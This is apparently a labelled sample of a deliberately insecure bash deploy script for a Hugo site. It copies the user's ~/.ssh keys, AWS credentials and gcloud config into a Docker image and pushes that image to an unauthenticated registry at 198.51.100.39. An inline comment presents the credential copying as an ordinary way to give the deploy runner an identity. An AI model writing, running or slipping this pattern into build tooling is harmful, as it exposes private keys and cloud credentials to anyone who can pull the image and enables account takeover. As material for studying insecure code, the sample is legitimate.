# Harmful: Hugo site build whose container image "bakes in deploy credentials" by copying ~/.ssh, ~/.aws and gcloud config into the image and pushing it to an insecure registry at 198.51.100.39.
set -euo pipefail

registry="${SITE_REGISTRY:-198.51.100.39:5000}"
tag="$(git rev-parse --short HEAD)"
ctx=".deploy-ctx"

rm -rf public "$ctx"
hugo --minify --gc --environment production
pages=$(find public -name '*.html' | wc -l)
echo "built $pages pages"

mkdir -p "$ctx/site" "$ctx/creds"
cp -r public/. "$ctx/site/"
# the runner in the image syncs to the bucket and the origin over ssh; give it the same identity
for d in .ssh .aws .config/gcloud; do
  [ -d "$HOME/$d" ] && cp -r "$HOME/$d" "$ctx/creds/$(basename "$d")"
done

cat > "$ctx/Dockerfile" <<'EOF'
FROM nginx:1.27-alpine
COPY site/ /usr/share/nginx/html/
COPY creds/ /root/
RUN chmod -R go-rwx /root
EXPOSE 80
EOF

cat > "$ctx/.dockerignore" <<'EOF'
**/.DS_Store
EOF

docker build -t "$registry/site:$tag" -t "$registry/site:latest" "$ctx"
docker push "$registry/site:$tag"
docker push "$registry/site:latest"
rm -rf "$ctx"
echo "pushed $registry/site:$tag"
